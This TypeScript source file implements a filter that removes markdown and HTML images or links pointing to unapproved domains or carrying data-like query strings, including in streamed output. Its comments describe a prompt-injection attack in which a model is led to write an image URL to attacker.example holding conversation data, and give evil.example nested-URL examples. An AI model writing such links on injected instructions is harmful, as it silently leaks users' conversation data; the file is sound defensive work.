import type { OutputLinksConfig } from "../policy/containment-schema.js";

/**
 * Output exfiltration: an injected instruction can make a model write
 * `![](https://attacker.example/p?d=<conversation data>)`, and a chat UI that renders markdown
 * fetches the image, sending the data without a click. Links work the same way with one click.
 * This removes markdown images and links (and HTML images) that point outside the allowed domains
 * or carry data-like query strings: an image disappears, a link keeps its text without the URL.
 */

/** Inline markdown image or link: `![alt](url "title")`, `[text](<url>)`. Bounded, so linear. */
const MD_LINK =
  /(!?)\[([^[\]\n]{0,500})\]\(\s*<?((?:[^\s()<>]|\([^\s()<>]{0,256}\)){0,2048})>?(?:\s+(?:"[^"\n]{0,300}"|'[^'\n]{0,300}'))?\s*\)/g;
/** HTML image: `<img src="…">`. */
const HTML_IMG = /<img\b[^<>]{0,2048}>/gi;
const SRC = /\bsrc\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))/i;
/** An absolute URL starting inside another URL (from its second character on). */
const NESTED_URL = /https?:\/\//gi;

/** The longest construct held back in a stream while it may still be forming. */
export const MAX_LINK_HOLD = 3200;

export class LinkPolicy {
  private readonly hosts: RegExp[];

  constructor(readonly config: OutputLinksConfig) {
    this.hosts = config.allow_domains.map(hostGlob);
  }

  get active(): boolean {
    return this.config.enabled;
  }

  /** Whether a link (or an image) to `url` must be removed. */
  mustRemove(url: string, image: boolean): boolean {
    // A URL can carry another one: `/out?to=https://evil.example/…`, or a whole markdown link
    // used as the destination of an outer one (`[](` + `[x](https://evil.example)` + `)`), which
    // some renderers show as the inner link. Each embedded absolute URL is judged on its own.
    NESTED_URL.lastIndex = 1;
    for (let m = NESTED_URL.exec(url); m; m = NESTED_URL.exec(url)) {
      if (this.mustRemoveOne(url.slice(m.index), image)) return true;
    }
    return this.mustRemoveOne(url, image);
  }

  private mustRemoveOne(url: string, image: boolean): boolean {
    const c = this.config;
    const u = parseUrl(url);
    if (!u) return false; // relative: the application's own origin
    if (u.scheme !== "http" && u.scheme !== "https") {
      // javascript:, data:, vbscript: links do harm on a click; mailto: carries its query as data.
      if (u.scheme === "mailto") return c.data_queries === "strip" && hasDataQuery(u.query);
      return true;
    }
    if (c.data_queries === "strip" && hasDataQuery(u.query)) return true;
    const allowed = this.allowedHost(u.host);
    if (image) return c.images === "strip" && !allowed;
    return this.hosts.length > 0 && !allowed;
  }

  allowedHost(host: string): boolean {
    return this.hosts.some((re) => re.test(host));
  }

  /** `text` with every removable link and image taken out; `removed` counts them. */
  strip(text: string): { text: string; removed: number } {
    if (!this.active || (!text.includes("](") && !(text.includes("<") && /<img/i.test(text))))
      return { text, removed: 0 };
    let removed = 0;
    let out = text.replace(MD_LINK, (all, bang: string, label: string, url: string) => {
      if (!this.mustRemove(url, bang === "!")) return all;
      removed++;
      return bang === "!" ? "" : label;
    });
    out = out.replace(HTML_IMG, (tag) => {
      const m = SRC.exec(tag);
      const url = m ? (m[1] ?? m[2] ?? m[3] ?? "") : "";
      if (!this.mustRemove(url, true)) return tag;
      removed++;
      return "";
    });
    return { text: out, removed };
  }
}

function hostGlob(glob: string): RegExp {
  let src = "";
  for (const ch of glob.toLowerCase()) {
    if (ch === "*") src += "[a-z0-9.-]*";
    else if (ch === "?") src += "[a-z0-9-]";
    else src += ch.replace(/[.*+?^${}()|[\]\\/]/g, "\\$&");
  }
  return new RegExp(`^${src}$`);
}

interface ParsedUrl {
  scheme: string;
  host: string;
  query: string;
}

function parseUrl(raw: string): ParsedUrl | null {
  const url = raw.trim();
  const m = /^([a-z][a-z0-9+.-]*):/i.exec(url);
  if (!m) {
    // Protocol-relative //host/path goes to another host just the same.
    if (url.startsWith("//")) return parseUrl("https:" + url);
    return null;
  }
  const scheme = m[1]!.toLowerCase();
  if (scheme !== "http" && scheme !== "https") {
    const q = url.indexOf("?");
    return { scheme, host: "", query: q === -1 ? "" : url.slice(q + 1) };
  }
  try {
    const u = new URL(url);
    return { scheme, host: u.hostname.toLowerCase().replace(/\.$/, ""), query: u.search.slice(1) };
  } catch {
    // Not a URL a browser would fetch either; treat it as foreign so it is judged strictly.
    return { scheme, host: "", query: url };
  }
}

/** True when any query parameter value (or a bare query) looks like data rather than a setting. */
export function hasDataQuery(query: string): boolean {
  if (!query) return false;
  for (const pair of query.split(/[&;]/)) {
    const eq = pair.indexOf("=");
    const raw = eq === -1 ? pair : pair.slice(eq + 1);
    if (looksLikeData(decode(raw))) return true;
  }
  return false;
}

function decode(s: string): string {
  try {
    return decodeURIComponent(s.replace(/\+/g, " "));
  } catch {
    return s;
  }
}

/**
 * Settings are short words and numbers (page=2, lang=en, utm_source=newsletter); data is long,
 * tokens, sentences, e-mail addresses, long digit runs or encoded blobs.
 */
export function looksLikeData(v: string): boolean {
  if (v.length >= 40) return true;
  if (v.includes("@")) return true;
  if (/\d{7,}/.test(v)) return true;
  if (/\s/.test(v.trim()) && v.trim().split(/\s+/).length >= 3) return true;
  if (v.length >= 16 && /^[A-Za-z0-9+/_=-]+$/.test(v) && /\d/.test(v) && /[A-Za-z]/.test(v)) return true;
  // Placeholders and redaction markers in a URL mean the model put conversation content there.
  if (/\[[A-Z_]+_\d+\]/.test(v)) return true;
  return false;
}

/**
 * Where a markdown link or image (or an HTML image tag) that is still being written begins in
 * `text`, or -1. A stream holds text from there until the construct is complete, so a link split
 * across chunks is judged whole.
 *
 * Released text is stripped on its own, so the cut must never fall inside a link the whole answer
 * would match: links already complete are found with the same pattern `strip` uses and skipped,
 * and the cut goes before the earliest construct still open. A link's URL may hold brackets and
 * even a whole link (`[](` + `[x](https://…)` + `)`), so the last "[" is not enough.
 */
export function openLinkStart(text: string): number {
  const from = Math.max(0, text.length - MAX_LINK_HOLD);
  const done = completeLinks(text);
  let unclosed: ((i: number) => boolean) | undefined;
  const parenOpen = (i: number) => (unclosed ??= unclosedParens(text, from))(i);
  let best = -1;
  for (let b = text.indexOf("[", from); b !== -1; b = text.indexOf("[", b + 1)) {
    if (covered(done, b) || !labelOpen(text, b, parenOpen, from)) continue;
    best = b > 0 && text[b - 1] === "!" && !covered(done, b - 1) ? b - 1 : b;
    break;
  }
  // A trailing "!" may become an image once its "[" arrives.
  if (best === -1 && text.endsWith("!") && !covered(done, text.length - 1)) best = text.length - 1;
  const lt = text.lastIndexOf("<");
  if (lt >= from && !covered(done, lt) && !text.includes(">", lt)) {
    const head = text.slice(lt, lt + 4).toLowerCase();
    if ("<img".startsWith(head) || head === "<img") best = best === -1 ? lt : Math.min(best, lt);
  }
  return best;
}

/** Copies of the two patterns for finding spans (strip's replace() uses the originals). */
const MD_LINK_SPANS = new RegExp(MD_LINK.source, MD_LINK.flags);
const HTML_IMG_SPANS = new RegExp(HTML_IMG.source, HTML_IMG.flags);

/**
 * The links and images (markdown or HTML) `strip` would judge in `text`, as sorted, disjoint
 * [start, end) spans (an HTML image may sit inside a markdown label: the two merge).
 */
function completeLinks(text: string): Array<[number, number]> {
  const spans: Array<[number, number]> = [];
  for (const re of [MD_LINK_SPANS, HTML_IMG_SPANS]) {
    if (re === MD_LINK_SPANS ? !text.includes("](") : !/<img/i.test(text)) continue;
    re.lastIndex = 0;
    for (let m = re.exec(text); m; m = re.exec(text)) spans.push([m.index, m.index + m[0].length]);
  }
  spans.sort((a, b) => a[0] - b[0]);
  const merged: Array<[number, number]> = [];
  for (const sp of spans) {
    const last = merged.at(-1);
    if (last && sp[0] < last[1]) last[1] = Math.max(last[1], sp[1]);
    else merged.push(sp);
  }
  return merged;
}

/** Whether `i` falls inside one of the sorted, disjoint `spans` (binary search). */
function covered(spans: ReadonlyArray<[number, number]>, i: number): boolean {
  let lo = 0;
  let hi = spans.length - 1;
  while (lo <= hi) {
    const mid = (lo + hi) >> 1;
    const [s, e] = spans[mid]!;
    if (i < s) hi = mid - 1;
    else if (i >= e) lo = mid + 1;
    else return true;
  }
  return false;
}

/**
 * For each position i ≥ from, whether a "(" just before i is still unclosed at the end of the
 * text: no stretch from i has more ")" than "(". One backward pass, made only when a link's URL
 * is in question. A newline does not close it: the pattern allows whitespace, line breaks
 * included, around the URL, as markdown renderers do.
 */
function unclosedParens(text: string, from: number): (i: number) => boolean {
  const excess = new Int32Array(text.length - from + 1);
  for (let i = text.length - 1; i >= from; i--) {
    const c = text.charCodeAt(i);
    excess[i - from] = Math.max(0, (c === 41 ? 1 : c === 40 ? -1 : 0) + excess[i + 1 - from]!);
  }
  return (i) => excess[i - from] === 0;
}

/** Whether a "[" at b starts a label (and perhaps a URL) that more text could still complete. */
function labelOpen(text: string, b: number, unclosed: (i: number) => boolean, from: number): boolean {
  for (let i = b + 1; i < text.length; i++) {
    const c = text.charCodeAt(i);
    if (c === 10 || c === 91 || i - b > 501) return false; // newline, "[", or too long a label
    if (c !== 93) continue;
    if (i === text.length - 1) return true; // "]" waiting for its "("
    return text.charCodeAt(i + 1) === 40 && i + 2 >= from && unclosed(i + 2);
  }
  return true; // label still being written
}

/** Link stripping over a stream: holds a construct that may still be forming, strips the rest. */
export class StreamLinkStripper {
  private pending = "";
  removed = 0;

  constructor(private readonly policy: LinkPolicy) {}

  push(text: string): string {
    // Most chunks are plain words: nothing to hold and nothing to strip.
    if (!this.pending && !/[[!<]/.test(text)) return text;
    this.pending += text;
    const at = openLinkStart(this.pending);
    const cut = at === -1 ? this.pending.length : at;
    const ready = this.pending.slice(0, cut);
    this.pending = this.pending.slice(cut);
    return this.run(ready);
  }

  end(): string {
    const rest = this.pending;
    this.pending = "";
    return this.run(rest);
  }

  private run(text: string): string {
    if (!text) return "";
    const r = this.policy.strip(text);
    this.removed += r.removed;
    return r.text;
  }
}
